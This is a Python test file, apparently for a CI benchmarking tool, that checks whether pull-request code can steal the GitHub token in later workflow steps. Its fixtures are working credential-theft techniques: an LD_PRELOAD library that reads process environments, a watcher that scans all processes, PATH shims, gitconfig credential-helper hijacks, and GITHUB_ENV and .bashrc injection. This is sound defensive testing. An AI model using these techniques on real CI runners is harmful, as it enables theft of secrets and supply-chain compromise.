"""What code of a pull request leaves for later steps never sees a token: in the measuring job nothing after it has one,
and the steps that have one start clean."""

import subprocess
import textwrap

import repositories
from workflow import check

LIBRARY = r"""
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void steal(void) {
    char buffer[1 << 16];
    int from = open("/proc/self/environ", O_RDONLY), to = open(LOOT "/found/library", O_WRONLY | O_CREAT | O_APPEND, 0600);
    ssize_t count;
    while ((count = read(from, buffer, sizeof buffer)) > 0) write(to, buffer, count);
    close(from);
    close(to);
}
"""
WATCHER = """
import glob, pathlib, sys, time
loot = pathlib.Path(sys.argv[1])
(loot / "watching").touch()
while not (loot / "stop").exists():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            environment = open(path, "rb").read()
        except OSError:
            continue
        if b"CANARY" in environment:
            (loot / "found/watched").write_bytes(environment)
    time.sleep(0.002)
"""
TOOLS = ["bash", "sh", "env", "git", "cat", "timeout", "realpath", "python3", "node", "curl", "bench-diff"]


class Loot:
    """A directory with what hostile code plants, and what that finds."""

    def __init__(self, world, name):
        self.canary, self.path = world.github.canary, world.scratch / f"loot-{name}"
        (self.path / "bin").mkdir(parents=True)
        (self.path / "found").mkdir()
        self.write("steal", '#!/bin/sh -p\n/usr/bin/tr "\\0" "\\n" < /proc/$PPID/environ >> LOOT/found/$1\n/usr/bin/env >> LOOT/found/$1\n')
        self.write("start-up", "LOOT/steal start-up\n")
        for tool in TOOLS:
            # What isn't there by that name can't be played.
            self.write(f"bin/{tool}", f'#!/bin/sh -p\nLOOT/steal path\nPATH="${{PATH#LOOT/bin:}}"\nexec {tool} "$@"\n')
        self.write("gitconfig", "[core]\n  fsmonitor = LOOT/steal git\n[credential]\n  helper = !LOOT/steal git\n")
        self.write("watcher.py", WATCHER.replace("CANARY", self.canary))
        self.write("library.c", LIBRARY)
        subprocess.run(["cc", "-shared", "-fPIC", f'-DLOOT="{self.path}"', "-o", self.path / "library.so",
                        self.path / "library.c"], check=True)
        self.write("plant", textwrap.dedent("""\
            #!/bin/bash
            cat >> "$GITHUB_ENV" <<'END'
            BASH_ENV=LOOT/start-up
            ENV=LOOT/start-up
            LD_PRELOAD=LOOT/library.so
            GIT_CONFIG_GLOBAL=LOOT/gitconfig
            GIT_SSH_COMMAND=LOOT/steal git
            GIT_ASKPASS=LOOT/steal git
            BASH_FUNC_exec%%=() { LOOT/steal function; builtin exec "$@"; }
            BASH_FUNC_printf%%=() { LOOT/steal function; builtin printf "$@"; }
            END
            echo LOOT/bin >> "$GITHUB_PATH"
            cat LOOT/gitconfig >> ~/.gitconfig
            echo 'LOOT/steal start-up' | tee -a ~/.bashrc ~/.profile ~/.bash_profile > /dev/null
            """))
        self.write("watch", "#!/bin/bash\nLOOT/plant\nsetsid python3 LOOT/watcher.py LOOT > /dev/null 2>&1 < /dev/null &\n"
                   "until [[ -e LOOT/watching ]]; do sleep 0.01; done\n")

    def write(self, name, text):
        path = self.path / name
        path.write_text(text.replace("LOOT", str(self.path)) if name != "library.c" else text)
        path.chmod(0o755)

    def stop(self):
        (self.path / "stop").touch()

    def found(self):
        """How each kind of planted thing was run, with the environments that it saw."""
        return {path.name: path.read_text(errors="replace") for path in (self.path / "found").iterdir()}

    def expect_nothing(self, ran, where):
        found = self.found()
        for kind in ran:
            check(kind in found, f"{where}: what was planted runs: {kind}; {list(found)}")
        stolen = [kind for kind, seen in found.items() if self.canary in seen]
        check(not stolen, f"{where}: a token was seen by {stolen}")


class Repository:
    def __init__(self, world, name):
        self.world = world
        self.path = repositories.user(world.scratch / f"leaks-{name}", page="README.md")
        self.base = repositories.commit(self.path, "base")
        self.pull = world.github.pull_request(f"leaks-{name}", repositories.commit(self.path, "head"), self.base)
        self.pull["head"]["repo"] = {"full_name": "acme/candle"}

    def run(self, change):
        event = {"action": "opened", "number": self.pull["number"], "pull_request": self.pull}
        jobs = self.world.runner.run("pull_request", event, self.path, change=change)
        for name, job in jobs.items():
            check(job.result == "success", f"{name} ends well: {job.log[-3000:]}")
        check(len(self.world.github.comments(self.pull)) == 1, "and there is a comment")
        return jobs


def what_a_build_leaves(world):
    repository, loot = Repository(world, "build"), Loot(world, "build")

    def change(name, job):
        if name == "measure":
            job["steps"][-1]["with"]["build-command"] = str(loot.path / "watch")
        else:
            # That job is on another machine.
            loot.stop()
    repository.run(change)
    check((loot.path / "watching").exists(), "something watches all processes")
    loot.expect_nothing(["start-up", "path", "library"], "after a build")


def what_an_earlier_step_leaves(world):
    """Also the steps that have a token."""
    repository, loot = Repository(world, "earlier"), Loot(world, "earlier")

    def change(name, job):
        job["steps"][-1]["with"]["binary-path"] = str(world.binary)
        job["steps"].insert(-1, {"run": str(loot.path / "plant")})
    jobs = repository.run(change)
    loot.expect_nothing(["start-up", "path", "library"], "after an earlier step")
    check(repository.base in jobs["measure"].log, "the base was found all the same")


def tokens(world):
    """Which bench-diff gets the token: `base` and `publish` in the job that may write, nothing else. And what those get
    beside it, whatever the jobs set."""
    repository = Repository(world, "tokens")
    for name in ["base", "ci", "publish", "publish-measure"]:
        (world.scratch / f"environment-{name}").unlink(missing_ok=True)

    def change(name, job):
        job["env"] = {"GITHUB_TOKEN": "${{ github.token }}", "SSL_CERT_FILE": "/planted", "http_proxy": "http://planted"}
        if name == "publish":
            (world.scratch / "environment-publish").rename(world.scratch / "environment-report")
    repository.run(change)
    for name, expected in [("base", True), ("ci", False), ("report", False), ("publish", True)]:
        seen = (world.scratch / f"environment-{name}").read_text()
        check((world.github.canary in seen) == expected, f"bench-diff {name} runs with a token: {expected}")
        if expected:
            check("planted" not in seen, f"bench-diff {name} has nothing beside the token that the job set: {seen}")
            check("PATH=/usr/local/bin:/usr/bin:/bin\n" in seen, f"and the system's own path: {seen}")
            check("GITHUB_RUN_ID=" in seen, "and knows its run")


SCENARIOS = [what_a_build_leaves, what_an_earlier_step_leaves, tokens]
